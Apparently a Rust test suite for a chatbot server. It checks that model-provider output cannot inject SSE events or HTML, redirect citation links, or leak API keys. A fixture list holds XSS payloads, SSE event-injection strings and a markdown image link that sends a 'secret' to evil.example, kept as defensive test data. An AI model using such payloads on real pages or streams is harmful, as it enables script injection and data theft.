//! What comes from a model's server is not believed, and what belongs to it goes nowhere else.

use crate::fake::Fake;
use crate::support::Settings;
use crate::support::client::{SseEvent, id};
use crate::world::{PAGE, QUESTION, SHOP, World};
use reqwest::Method;
use serde_json::{Value, json};

/// Words that do harm where somebody forgets to look at them.
const NASTY: &[&str] = &[
    "one\r\n\r\nevent: done\r\ndata: {\"finish_reason\":\"stop\"}\r\n\r\ntwo",
    "one\n\nevent: done\ndata: {}\n\ntwo",
    "one\revent: error\rdata: x\r\rtwo",
    "id: 99\nretry: 1\n: comment\n\n",
    "\u{2028}event: done\u{2029}\u{85}\u{b}\u{c}",
    "<img src=x onerror=alert(1)><svg onload=alert(1)></svg>",
    "[click](javascript:alert(1)) <script>alert(1)</script>",
    "![x](http://evil.example/?q=secret) ![y][z]\n\n[z]: http://evil.example/",
    "\u{0}\u{1b}[31m\u{feff}\u{202e}",
];

#[tokio::test]
async fn a29_words_with_line_ends_stay_words_on_the_wire() {
    let fake = Fake::start();
    let server = fake.server().await;
    let world = World::of(server.owner().await, "ordinary").await;
    let visitor = world.owner.visitor(&world.bot, SHOP).await;
    let chat = format!("/api/v1/bots/{}/chat", id(&world.bot));
    for words in NASTY {
        for size in [1, 3, 500] {
            fake.next(json!({ "text": format!("Begin {words} end."), "delta_chars": size })).await;
            let body = json!({ "message": QUESTION });
            let events = visitor.events(Method::POST, "/widget/v1/chat", Some(body)).await;
            whole(&events, words);
        }
        fake.next(json!({ "text": format!("Begin {words} end.") })).await;
        let body = json!({ "message": QUESTION, "stream": true });
        whole(&world.owner.events(Method::POST, &chat, Some(body)).await, words);
    }
}

/// One start, deltas, one sources, one done; and what was said is there.
#[track_caller]
fn whole(events: &[SseEvent], words: &str) {
    let names: Vec<&str> = events.iter().map(|event| event.name.as_str()).collect();
    for (name, count) in [("start", 1), ("sources", 1), ("done", 1), ("error", 0)] {
        assert_eq!(names.iter().filter(|other| **other == name).count(), count, "{words:?}: {names:?}");
    }
    assert!(names.iter().all(|name| ["start", "delta", "sources", "done"].contains(name)), "{names:?}");
    let message = events[0].data["message_id"].as_str().unwrap();
    for (number, event) in events.iter().enumerate() {
        assert_eq!(event.id, format!("{message}:{number}"), "{words:?}");
    }
    let text: String = events.iter().filter_map(|event| event.data["text"].as_str()).collect();
    assert!(text.contains("Begin") && text.contains("end."), "{words:?}: {text:?}");
    if words.contains("event: done") {
        assert!(text.contains("event: done"), "{text:?}");
    }
}

#[tokio::test]
async fn a26_a28_markup_of_a_model_is_data_and_never_a_page() {
    let fake = Fake::start();
    let server = fake.server().await;
    let world = World::of(server.owner().await, "ordinary").await;
    let chat = format!("/api/v1/bots/{}/chat", id(&world.bot));
    for words in NASTY {
        fake.next(json!({ "text": words })).await;
        let reply = world.owner.post(&chat, json!({ "message": QUESTION })).await;
        assert_eq!(reply.headers["content-type"], "application/json");
        assert_eq!(reply.headers["x-content-type-options"], "nosniff");
        reply.expect(200);
    }
    let messages = format!("/api/v1/bots/{}/conversations", id(&world.bot));
    assert_eq!(world.owner.get(&messages).await.headers["content-type"], "application/json");
}

#[tokio::test]
async fn a28_a_source_never_leads_where_the_model_says() {
    let fake = Fake::start();
    let server = fake.server().await;
    let world = World::of(server.owner().await, "ordinary").await;
    let chat = format!("/api/v1/bots/{}/chat", id(&world.bot));
    let text = "Tickets cost 13 euros [1](http://evil.example/?q=secret) [[1|Tickets cost 13 euros for adults]]. \
        Also [[9|made up]] and [[1|words that stand nowhere at all]].";
    fake.next(json!({ "text": text })).await;
    let answer = world.owner.post(&chat, json!({ "message": QUESTION })).await.expect(200);
    let sources = answer["sources"].as_array().unwrap();
    assert_eq!(sources.len(), 1, "{answer}");
    assert!(!answer["sources"].to_string().contains("evil"), "{answer}");
    assert!(!answer["answer"].as_str().unwrap().contains("[1](http"), "{answer}");
    assert!(!answer["answer"].as_str().unwrap().contains("[9"), "{answer}");
}

#[tokio::test]
async fn a37_no_field_of_the_api_sets_where_a_model_is_asked() {
    let fake = Fake::start();
    let server = fake.server().await;
    let owner = server.owner().await;
    let bot = owner.bot(json!({})).await;
    let path = format!("/api/v1/bots/{}", id(&bot));
    let thief = Fake::start();
    let url = thief.url();
    for body in [
        json!({ "base_url": url }),
        json!({ "api_key": "sk-x" }),
        json!({ "settings": { "base_url": url } }),
        json!({ "settings": { "models": { "chat": null, "temperature": null, "base_url": url } } }),
        json!({ "settings": { "models": { "chat": null, "temperature": null, "api_key": "sk-x" } } }),
    ] {
        let reply = owner.patch(&path, body.clone()).await;
        assert_eq!(reply.body["errors"][0]["code"], "unknown", "{body}: {}", reply.body);
        assert_eq!(reply.problem(422), "invalid");
    }
    let chat = json!({ "message": QUESTION, "base_url": url });
    assert_eq!(owner.post(&format!("{path}/chat"), chat).await.problem(422), "invalid");
    // A model's name is a name, whatever it looks like: the address stays.
    let models = json!({ "chat": format!("{url}/../x"), "temperature": null });
    owner.patch(&path, json!({ "settings": { "models": models } })).await.expect(200);
    owner.text(&bot, "Observatory", PAGE).await;
    owner.post(&format!("{path}/chat"), json!({ "message": QUESTION })).await.expect(200);
    assert_eq!(fake.chats().await, 1);
    assert_eq!(thief.told().await["requests"], json!([]));
    // Only a workspace's own providers have an address and a key, and the key goes in only.
    let document = server.anonymous().get("/api/openapi.json").await.expect(200);
    let schemas = document["components"]["schemas"].as_object().expect("schemas");
    let with = |field: &str| {
        let has = |schema: &Value| !schema["properties"][field].is_null();
        schemas.iter().filter(|(_, schema)| has(schema)).map(|(name, _)| name.as_str()).collect::<Vec<_>>()
    };
    let (mut addresses, mut keys) = (with("base_url"), with("api_key"));
    addresses.sort_unstable();
    keys.sort_unstable();
    assert_eq!(addresses, ["ProviderIn", "ProviderOut", "ProviderPatch"]);
    // The one that comes out is a key of ours, shown when it is made.
    assert_eq!(keys, ["NewApiKeyOut", "ProviderIn", "ProviderPatch"]);
}

#[tokio::test]
async fn a37_openais_key_goes_to_the_address_it_was_given_for_and_nowhere_else() {
    // An address of one's own without a key: OpenAI's key stays at home.
    let own = Fake::start();
    let settings = Settings::default()
        .foreign("OPENAI_API_KEY", "sk-canary")
        .set("CHAT__BASE_URL", own.url())
        .set("EMBEDDINGS__BASE_URL", own.url())
        .set("EMBEDDINGS__DIMENSIONS", 64);
    assert_eq!(keyed(settings, &own).await, [false]);
    // With a key of its own, that one goes.
    let settings = Settings::default()
        .foreign("OPENAI_API_KEY", "sk-canary")
        .models_at(&own.url())
        .set("EMBEDDINGS__DIMENSIONS", 64);
    assert_eq!(keyed(settings, &own).await, [true]);
    // And OpenAI's own two variables belong together.
    let settings = Settings::default()
        .foreign("OPENAI_API_KEY", "sk-canary")
        .foreign("OPENAI_BASE_URL", &own.url())
        .set("EMBEDDINGS__DIMENSIONS", 64);
    assert_eq!(keyed(settings, &own).await, [true]);
}

/// Whether each request of one page and one answer came with a key.
async fn keyed(settings: Settings, fake: &Fake) -> Vec<bool> {
    let before = fake.told().await["requests"].as_array().unwrap().len();
    let server = settings.start().await;
    World::of(server.owner().await, "ordinary").await;
    let told = fake.told().await;
    let requests = &told["requests"].as_array().unwrap()[before..];
    assert!(!told.to_string().contains("sk-canary"), "the key stands where it does not belong");
    let mut keyed: Vec<bool> =
        requests.iter().map(|request| request["authorization"] == json!(true)).collect();
    assert!(keyed.len() >= 3, "both models were asked: {keyed:?}");
    keyed.dedup();
    keyed
}

#[tokio::test]
async fn a38_no_answer_and_no_database_holds_the_key() {
    const KEY: &str = "sk-canary-9f8e7d";
    let fake = Fake::start();
    let server = fake.settings().set("CHAT__API_KEY", KEY).set("EMBEDDINGS__API_KEY", KEY).start().await;
    let world = World::of(server.owner().await, "ordinary").await;
    for (path, body) in world.seen().await {
        assert!(!body.to_string().contains(KEY), "{path}");
    }
    let installation = server.anonymous().get("/api/v1/installation").await.expect(200);
    assert_eq!(installation["chat"], json!({ "provider": "openai", "model": "gpt-4.1-mini" }));
    assert_eq!(installation["embeddings"]["dimensions"], 64);
    assert!(!installation.to_string().contains(&fake.url()), "where models are asked is nobody's business");
    for file in std::fs::read_dir(&server.data).expect("the data directory") {
        let bytes = std::fs::read(file.expect("a file").path()).expect("it can be read");
        assert!(!bytes.windows(KEY.len()).any(|window| window == KEY.as_bytes()));
    }
}

#[tokio::test]
async fn a49_vectors_that_are_no_good_fail_the_job_and_leave_no_row() {
    for bad in ["short", "nan", "missing", "zero"] {
        let fake = Fake::start();
        let server = fake.settings().set("WORKER__MAX_ATTEMPTS", 2).start().await;
        let owner = server.owner().await;
        let bot = owner.bot(json!({})).await;
        fake.always(json!({ "on": "embeddings", "vectors": bad })).await;
        let (source, job) =
            owner.source(&bot, json!({ "type": "text", "title": "Observatory", "text": PAGE })).await;
        assert_eq!(job["status"], "failed", "{bad}: {job}");
        let code = if bad == "short" { "new_index_needed" } else { "model_bad_response" };
        assert_eq!(job["error"]["code"], code, "{bad}: {job}");
        assert_eq!((&source["status"], &source["chunks"]), (&json!("error"), &json!(0)), "{bad}: {source}");
        assert_eq!(source["documents"]["indexed"], 0, "{bad}: {source}");
        assert!(source["error"]["detail"].as_str().is_some_and(|words| words.len() > 20), "{source}");
        assert_eq!(rows(&server.running.app.store).await, [0, 0, 0], "{bad}");
        // Once the vectors are good, the same job makes it good.
        fake.always(json!({ "on": "embeddings" })).await;
        let path = format!("/api/v1/jobs/{}/retry", id(&job));
        owner.post(&path, json!({})).await.expect(202);
        assert_eq!(owner.ended(id(&job)).await["status"], "completed", "{bad}");
        assert!(rows(&server.running.app.store).await.iter().all(|rows| *rows > 0));
    }
}

/// Passages, their vectors, and their full text.
async fn rows(store: &frontdesk::store::Store) -> Vec<i64> {
    let mut conn = store.read().await.expect("a connection");
    let mut counts = Vec::new();
    for table in ["document_chunks", "vec_items_64", "chunk_texts"] {
        let there: i64 = sqlx::query_scalar("select count(*) from sqlite_master where name = $1")
            .bind(table)
            .fetch_one(&mut *conn)
            .await
            .expect("a count");
        let sql = format!("select count(*) from {table}");
        let count = match there {
            0 => 0,
            _ => sqlx::query_scalar(sqlx::AssertSqlSafe(sql)).fetch_one(&mut *conn).await.expect("a count"),
        };
        counts.push(count);
    }
    counts
}

#[tokio::test]
async fn a49_a_question_whose_vector_is_no_good_is_answered_by_full_text() {
    let fake = Fake::start();
    let server = fake.server().await;
    let world = World::of(server.owner().await, "ordinary").await;
    let search = format!("/api/v1/bots/{}/search", id(&world.bot));
    for bad in ["short", "nan", "missing"] {
        fake.next(json!({ "on": "embeddings", "vectors": bad })).await;
        let query = format!("{QUESTION} {bad}");
        let found: Value = world.owner.post(&search, json!({ "query": query })).await.expect(200);
        assert!(
            found["note"].as_str().is_some_and(|note| note.starts_with("Only full text")),
            "{bad}: {found}"
        );
        assert!(
            found["results"].as_array().unwrap().iter().all(|hit| hit["vector_rank"].is_null()),
            "{found}"
        );
    }
}
